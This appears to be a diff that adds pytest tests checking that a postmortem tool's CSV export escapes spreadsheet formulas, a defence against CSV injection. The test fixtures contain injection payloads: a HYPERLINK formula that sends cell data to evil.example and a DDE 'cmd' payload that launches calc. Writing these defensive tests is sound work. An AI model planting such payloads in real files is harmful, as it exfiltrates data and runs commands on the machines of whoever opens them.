@@ -8,6 +8,7 @@ import json
 
 import pytest
 from conftest import FINAL, Repo
+from postmortem_kit.report import spreadsheet_safe
 
 
 @pytest.fixture
@@ -72,3 +73,46 @@ def test_fail_on_overdue_for_a_scheduled_job(actions_repo: Repo) -> None:
         0,
         "DUE  STATUS  OWNER  POSTMORTEM  ACTION  DESCRIPTION\n0 actions, 0 overdue.\n",
     )
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(repo: Repo) -> None:
+    """CSV injection (OWASP): author text that a spreadsheet would run gets a leading '."""
+    for number, start in enumerate(FORMULA_STARTS, 1):
+        description = f'{start}HYPERLINK("https://evil.example/?leak="&A1, "Details")'
+        owner = f"{start}cmd|' /C calc'!A0"
+        text = (
+            FINAL.replace("AIPM-2025-001", f"AIPM-2025-00{number}")
+            .replace(
+                "description: Make the assistant decline policy questions unless it cites a "
+                "retrieved policy page.",
+                f"description: {json.dumps(description)}",
+            )
+            .replace("owner: Assistant platform team", f"owner: {json.dumps(owner)}")
+        )
+        repo.write(f"postmortems/2025/AIPM-2025-00{number}-x.md", text)
+    run = repo.run("actions", "--format", "csv", "--today", "2026-01-01")
+    rows = list(csv.DictReader(io.StringIO(run.out)))
+    first_actions = [row for row in rows if row["id"] == "A1"]
+    assert [(row["description"][:2], row["owner"][:2]) for row in first_actions] == [
+        ("'" + start, "'" + start) for start in FORMULA_STARTS
+    ]
+    assert first_actions[0]["owner"] == "'=cmd|' /C calc'!A0"
+    # what no author wrote, and text that starts harmlessly, are left as they are
+    assert (rows[0]["postmortem"], rows[0]["due"], rows[0]["overdue"]) == (
+        "AIPM-2025-001",
+        "2025-02-28",
+        "False",
+    )
+    assert rows[-1]["description"].startswith("Add a retrieval evaluation gate")
+
+
+def test_spreadsheet_safe_leaves_values_that_are_not_text_alone() -> None:
+    assert spreadsheet_safe("-5") == "'-5"
+    assert spreadsheet_safe("a-5") == "a-5"
+    assert spreadsheet_safe(-5) == -5
+    assert spreadsheet_safe(-0.5) == -0.5
+    assert spreadsheet_safe(None) is None
+    assert spreadsheet_safe("") == ""
